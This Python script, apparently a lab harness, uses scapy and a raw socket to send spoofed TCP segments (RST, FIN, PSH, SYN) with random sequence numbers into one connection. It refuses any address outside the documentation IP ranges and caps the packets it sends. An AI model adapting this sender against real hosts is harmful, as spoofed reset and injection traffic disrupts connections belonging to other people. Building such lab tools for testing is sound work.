"""Blind injection at one TCP connection, for the lab only: what an attacker who knows a
client's address and port (but none of its sequence numbers) can send. For each of FLAGS
(scapy letters: R, RA, FA, PA, S), COUNT segments from SRC:SPORT to HOST:PORT with random
sequence and acknowledgment numbers, built by scapy, sent with a raw socket from the
namespace it runs in; bounded by COUNT and by 10 s. Prints one JSON line: {"sent": n}.

    blindinject.py HOST PORT SRC SPORT COUNT FLAGS...
"""

from __future__ import annotations

import ipaddress
import json
import random
import socket
import sys
import time

from scapy.layers.inet import IP, TCP
from scapy.packet import Raw

DOC_RANGES = [
    ipaddress.ip_network(n) for n in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24")
]
MAX_SECONDS = 10.0


def segment(src: str, dst: str, sport: int, dport: int, flags: str, rng: random.Random) -> bytes:
    """One segment, built (and checksummed) by scapy."""
    seq, ack = rng.getrandbits(32), rng.getrandbits(32) if "A" in flags else 0
    tcp = TCP(sport=sport, dport=dport, flags=flags, seq=seq, ack=ack, window=8192)
    return bytes(
        IP(src=src, dst=dst) / tcp / Raw(b"x") if "P" in flags else IP(src=src, dst=dst) / tcp
    )


def main() -> int:
    host, port, src, sport = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    count, kinds = int(sys.argv[5]), sys.argv[6:]
    for a in (host, src):
        if not any(ipaddress.ip_address(a) in n for n in DOC_RANGES):
            print(f"refused: {a} is not in the documentation ranges", file=sys.stderr)
            return 2
    rng = random.Random(f"{src}:{sport}")
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent, end = 0, time.monotonic() + MAX_SECONDS
    for kind in kinds:
        for _ in range(count):
            if time.monotonic() > end:
                break
            s.sendto(segment(src, host, sport, port, kind, rng), (host, 0))
            sent += 1
    s.close()
    print(json.dumps({"sent": sent}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
